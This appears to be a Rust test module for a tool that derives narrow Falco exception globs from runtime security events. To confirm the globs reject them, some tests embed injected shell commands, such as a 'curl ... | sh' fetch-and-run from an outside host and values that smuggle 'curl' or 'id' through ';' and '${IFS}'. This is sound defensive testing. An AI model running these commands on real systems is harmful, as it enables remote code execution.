        assert!(!is_interpreter("rm") && !is_interpreter("logrotate"));
    }

    #[test]
    fn shell_programs_glob_with_classes_never_a_star() {
        let seg = "sh -c pgbackrest --stanza=main archive-push pg_wal/00000001000000120000003C";
        let g = ladder("proc.cmdline", &s(&[seg]));
        assert!(
            g.iter()
                .all(|g| !matches!(&g.value, ExVal::One(v) if v.contains('*'))),
            "{:?}",
            comps(&g)
        );
        let glob = g
            .iter()
            .find(|g| g.comp == "glob")
            .expect("a class glob over the segment");
        let ExVal::One(pat) = &glob.value else {
            panic!("{glob:?}")
        };
        let m = |v: &str| crate::kinds::tests::fnmatch(pat, v);
        assert!(m(
            "sh -c pgbackrest --stanza=main archive-push pg_wal/0000000100000012000000AB"
        ));
        assert!(!m(&format!("{seg}; curl -s http://203.0.113.7/x | sh")));
        assert!(!m(
            "sh -c pgbackrest --stanza=main archive-push pg_wal/;curl${IFS}x|sh;########"
        ));
        // No script-and-anything rung for a shell's program.
        let g = ladder(
            "proc.cmdline",
            &s(&["sh -c convert /srv/up/a.jpg /srv/th/a.png"]),
        );
        assert!(g.iter().all(|g| g.comp != "glob"), "{:?}", comps(&g));
        // A quoted program: no prefix of it, a glob with the quotes as `?`.
        let q = r#"sh -c printf "To: ops" | /usr/sbin/sendmail -t"#;
        let g = ladder("proc.cmdline", &s(&[q]));
        assert!(g.iter().all(|g| g.comp != "startswith"), "{:?}", comps(&g));
        assert!(
            has(
                &g,
                "proc.cmdline",
                "glob",
                "sh -c printf ?To: ops? | /usr/sbin/sendmail -t"
            ),
            "{:?}",
            comps(&g)
        );
        assert!(is_shell_program(&["/bin/bash", "-c", "x"]));
        assert!(!is_shell_program(&["python3", "-c", "x"]));
    }

    /// A site's own server named in a command line takes the next host of its /24 (the
    /// second edge of a pair, the next BMC of a rack), never another network's or an
    /// outside one; a shell's program by one digit class per digit of the host.
    #[test]
    fn site_hosts_in_command_lines_take_their_subnet() {
        let globs_of = |cmd: &str| -> Vec<String> {
            ladder("proc.cmdline", &s(&[cmd]))
                .into_iter()
                .filter(|g| g.comp == "glob")
                .filter_map(|g| match g.value {
                    ExVal::One(v) => Some(v),
                    ExVal::Many(_) => None,
                })
                .collect()
        };
        // Only the rungs that keep the destination (a tool with any arguments, `scp -q
        // FILE *`, is the `other_destination` mutation's to refuse).
        let globs_of = |cmd: &str| -> Vec<String> {
            globs_of(cmd)
                .into_iter()
                .filter(|g| !g.ends_with(" *"))
                .collect()
        };
        let cmd = "scp -q /acme/shop.pem root@10.40.2.11:/etc/haproxy/certs/shop.pem";
        let g = globs_of(cmd);
        let m = |v: &str| g.iter().any(|p| crate::kinds::tests::fnmatch(p, v));
        assert!(m(cmd), "{g:?}");
        assert!(m(&cmd.replace("10.40.2.11", "10.40.2.12")), "{g:?}");
        assert!(!m(&cmd.replace("10.40.2.11", "10.40.3.11")), "{g:?}");
        assert!(!m(&cmd.replace("10.40.2.11", "203.0.113.7")), "{g:?}");
        // An outside server stays whole.
        let out = "socat -T 3 STDIO UDP4:198.51.100.40:5060";
        let g = globs_of(out);
        let m = |v: &str| g.iter().any(|p| crate::kinds::tests::fnmatch(p, v));
        assert!(m(out), "{g:?}");
        assert!(!m(&out.replace("198.51.100.40", "198.51.100.41")), "{g:?}");
        // A shell's program: the host octet by digit classes, nothing chained.
        let sh = "sh -c nc -zv 10.61.4.20 2575";
        let g = globs_of(sh);
        let m = |v: &str| g.iter().any(|p| crate::kinds::tests::fnmatch(p, v));
        assert!(m("sh -c nc -zv 10.61.4.21 2575"), "{g:?}");
        assert!(!m("sh -c nc -zv 10.61.4.2;id 2575"), "{g:?}");
        assert!(!m("sh -c nc -zv 10.61.5.20 2575"), "{g:?}");
        // Loopback and the metadata address are no site host.
        assert_eq!(site_host_mask("127.0.0.1"), None);
        assert_eq!(site_host_mask("169.254.169.254"), None);
        assert_eq!(site_host_mask("192.0.2.9"), None);
        assert_eq!(site_host_mask("10.61.4.20"), Some(("10.61.4.", "20")));
        assert_eq!(site_host_mask("100.64.3.7"), Some(("100.64.3.", "7")));
    }

    /// Falco's glob (fnmatch without flags), through the rules engine.
    pub(crate) fn fnmatch(pat: &str, v: &str) -> bool {
        let rules = "- rule: G\n  desc: d\n  condition: evt.type = execve\n  output: o\n  priority: NOTICE\n";
        let block = crate::emit::block_yaml(
            "G",
            &[crate::emit::ExceptionSpec {
                name: "g".into(),
                fields: vec!["proc.cmdline".into()],
                comps: vec!["glob".into()],
                values: vec![vec![ExVal::One(pat.into())]],
            }],
            crate::emit::Style::Override,
        );
        let mut e = quell_rules::engine::Engine::new();
        assert!(e.load("r.yaml", rules).successful);
        let r = e.load("x.yaml", &block);
        assert!(r.successful, "{block}: {:?}", r.errors);
        let line = serde_json::json!({"evt.type": "execve", "proc.cmdline": v}).to_string();
        let ev = quell_events::FlatEvent::from_json_line(&line).unwrap();
        !e.rule("G").unwrap().matches(&ev)
    }

    #[test]
    fn dot_files_in_home_directories_glob_the_owner() {
        let g = ladder("fs.path.name", &s(&["/home/ubuntu/.bash_history"]));
        let both = ExVal::Many(s(&["/home/*/.bash_history", "/root/.bash_history"]));
        assert!(
            g.iter().any(|g| g.comp == "glob" && g.value == both),
            "{:?}",
            comps(&g)
        );
        let g = ladder(
            "fs.path.name",
            &s(&["/root/.bash_history", "/home/ubuntu/.bash_history"]),
        );
        assert!(g.iter().any(|g| g.comp == "glob" && g.value == both));
        // A file of root's home that is not a dot file stays root's.
        let g = ladder("fd.name", &s(&["/root/backup.tar"]));
        assert!(g.iter().all(|g| g.comp != "glob"), "{:?}", comps(&g));
        // In a tool's command line too, where `/home/` begins a path.
        let g = ladder("proc.cmdline", &s(&["rm -f /home/ops/.bash_history"]));
        assert!(has(
            &g,
            "proc.cmdline",
            "glob",
            "rm -f /home/*/.bash_history"
        ));
        // A home directory itself, followed by another argument, is not masked.
        let g = ladder("proc.cmdline", &s(&["restic backup /home/ops /etc/shadow"]));
        assert!(
            g.iter()
                .all(|g| !matches!(&g.value, ExVal::One(v) if v.contains("/home/*"))),
            "{:?}",
            comps(&g)
        );
        let g = ladder("fd.name", &s(&["/srv/home/ops/x"]));
        assert!(g.iter().all(|g| g.comp != "glob"), "{:?}", comps(&g));
    }

    #[test]
    fn addresses_in_command_lines_are_endpoints_not_counters() {
        // An outside address stays literal; a site's host keeps its /24 (see
        // `site_hosts_in_command_lines_take_their_subnet`).
        let g = ladder(
            "proc.cmdline",
            &s(&["rsync -a /data/up2/ backup@198.51.100.20:/srv/backup/"]),
        );
        assert!(
            has(
                &g,
                "proc.cmdline",
                "glob",
                "rsync -a /data/up*/ backup@198.51.100.20:/srv/backup/"
            ),
            "{:?}",
            comps(&g)
        );
        let g = ladder(
            "proc.cmdline",
            &s(&["rsync -a /data/up2/ backup@10.70.0.20:/srv/backup/"]),
        );
        assert!(
            has(
                &g,
                "proc.cmdline",
                "glob",
                "rsync -a /data/up*/ backup@10.70.0.*:/srv/backup/"
            ),
            "{:?}",
            comps(&g)
        );
        assert_eq!(ipv4_spans("x 1.2.3.4:80 v1.2.3.4 9.9.9.9.9"), vec![(2, 9)]);
    }

    #[test]
    fn a_variable_directory_is_globbed_not_taken_whole() {
        let g = ladder("fd.name", &s(&["/proc/1/environ"]));
        assert!(
            has(&g, "fd.name", "glob", "/proc/*/environ"),
            "{:?}",
            comps(&g)
        );
        assert!(g.iter().all(|g| g.comp != "startswith"), "{:?}", comps(&g));
    }

    #[test]
    fn process_names_glob_digit_runs() {
        let g = ladder("proc.pname", &s(&["script_7311.sh"]));
        assert!(
            has(&g, "proc.pname", "glob", "script_*.sh"),
            "{:?}",
            comps(&g)
        );
        let g = ladder("proc.aname[2]", &s(&["script_7311.sh", "script_2290.sh"]));
        assert!(
            has(&g, "proc.aname[2]", "glob", "script_*.sh"),
            "{:?}",
            comps(&g)
        );
        // Several shapes of name stay a list.
        let g = ladder("proc.pname", &s(&["worker1", "job2"]));
        assert!(g.iter().all(|g| g.comp != "glob"), "{:?}", comps(&g));
        assert_eq!(kind("proc.aname[3]"), Kind::Name);
    }

    /// Session 15: the same program in another system program directory (a merged `/usr`,
    /// `bin` or `sbin` by distribution), the distribution's other POSIX shell, and
    /// another runtime's exec entry as the parent are the same actor or lineage; a program elsewhere,
    /// two names past the list's length, another shell family or a parent that is no
    /// runtime entry get none of it.
    #[test]
    fn system_programs_shells_and_runtime_entries_take_their_kind() {
        let g = ladder("proc.exepath", &s(&["/usr/bin/tcpdump"]));
        let all4 = "/bin/tcpdump,/sbin/tcpdump,/usr/bin/tcpdump,/usr/sbin/tcpdump";
        assert!(has_in(&g, "proc.exepath", all4), "{:?}", comps(&g));
        assert!(g.iter().all(
            |g| !matches!(&g.value, ExVal::Many(v) if v.iter().any(|p| p.contains("/bin/sh")))
        ));
        let g = ladder("proc.exepath", &s(&["/usr/bin/dash"]));
        let dash = "/bin/dash,/sbin/dash,/usr/bin/dash,/usr/sbin/dash";
        let shells = "/bin/sh,/bin/bash,/bin/dash,/usr/bin/sh,/usr/bin/bash,/usr/bin/dash";
        assert!(has_in(&g, "proc.exepath", dash), "{:?}", comps(&g));
        assert!(has_in(&g, "proc.exepath", shells), "{:?}", comps(&g));
        let levels: Vec<u8> = g.iter().map(|g| g.level).collect();
        assert_eq!(levels, vec![0, 1, 2], "narrowest first: {:?}", comps(&g));
        // Not a system directory, two names (eight paths), a shell outside the family.
        assert_eq!(
            ladder("proc.exepath", &s(&["/opt/tools/bin/tcpdump"])).len(),
            1
        );
        assert_eq!(
            ladder("proc.exepath", &s(&["/usr/bin/dig", "/usr/bin/host"])).len(),
            1
        );
        assert_eq!(
            ladder("proc.exepath", &s(&["/usr/local/bin/tcpdump"])).len(),
            1
        );
        let g = ladder("proc.exepath", &s(&["/usr/bin/zsh"]));
        assert!(!has_in(&g, "proc.exepath", shells), "{:?}", comps(&g));
        // A runtime's exec entry as the parent; never an ancestor further up, nor the
        // process's own name.
        let shims = "containerd-shim,containerd-shim-runc-v2,conmon,runc,crun";
        let g = ladder("proc.pname", &s(&["containerd-shim"]));
        assert!(has_in(&g, "proc.pname", shims), "{:?}", comps(&g));
        assert_eq!(g.iter().map(|g| g.level).collect::<Vec<_>>(), vec![0, 1]);
        for f in ["proc.aname[2]", "proc.name"] {
            assert_eq!(ladder(f, &s(&["runc"])).len(), 1, "{f}");
        }
        assert_eq!(ladder("proc.pname", &s(&["containerd"])).len(), 1);
        assert_eq!(ladder("proc.pname", &s(&["conmon", "sshd"])).len(), 1);
    }

    #[test]
    fn names_images_and_users_are_exact() {
        for f in [
            "proc.name",
            "proc.pname",
            "proc.aname[2]",
            "container.image.repository",
            "k8s.ns.name",
            "user.name",
        ] {
            let g = ladder(f, &s(&["a1", "b2"]));
            assert_eq!(g.len(), 1, "{f}");
            assert_eq!(g[0].comp, "in");
        }
        // Values Falco's quoting cannot carry.
        assert!(ladder("proc.name", &s(&["a\"b"])).is_empty());
        assert!(glob_of("/var/log/a\u{1b}1").is_none());
    }

    /// A timestamp's fragment with a letter in it (`05T02`), a size or a duration (`64k`,
    /// `10m0s`) varies like its digits; a word with a digit (`amd64`, `v2`, `3rd`) keeps its
    /// letters.
    #[test]
    fn timestamp_fragments_vary_whole() {
        assert_eq!(
            glob_of("borg create ::web01-2026-11-05T02:00:07").as_deref(),
            Some("borg create ::web*-*-*-*:*:*")
        );
        assert_eq!(glob_token("64k"), "*");
        assert_eq!(glob_token("amd64"), "amd*");
        assert_eq!(glob_token("10m0s"), "*");
        assert_eq!(glob_token("v2"), "v*");
        assert_eq!(glob_token("3rd"), "3rd");
    }
}
